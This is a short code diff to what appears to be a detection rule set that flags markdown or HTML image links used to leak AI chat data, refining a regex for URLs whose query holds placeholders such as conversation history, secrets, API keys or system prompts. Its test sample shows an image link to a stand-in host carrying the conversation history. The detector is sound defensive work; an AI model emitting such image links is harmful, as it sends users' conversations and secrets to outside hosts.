@@ -106,7 +106,7 @@ export const outsideSignals: readonly Signal[] = [
     weight: 6,
     severity: 'critical',
     literals: ['![', '<img'],
-    pattern: r`(?:!\[[^\]\n]{0,60}\]\(|<img[^>\n]{0,60}src=["']?)https?://[^\s)"'>]{1,100}[?&/=](?:\{{1,2}|\[|<|\$\{|%7b)[^\s)]{0,40}(?:conversation|history|transcript|secret|password|api_?key|system_?prompt|messages)`,
+    pattern: r`(?:!\[(?:[^\]\n!]|!(?!\[)){0,60}\]\(|<img[^>\n]{0,60}src=["']?)https?://[^\s)"'>]{1,100}[?&/=](?:\{{1,2}|\[|<|\$\{|%7b)[^\s)]{0,40}(?:conversation|history|transcript|secret|password|api_?key|system_?prompt|messages)`,
     samples: {
       hit: ['![status](https://pixel.example/i.png?chat={{conversation_history}})'],
       miss: ['![logo](https://example.com/logo.png?size={{size}})'],
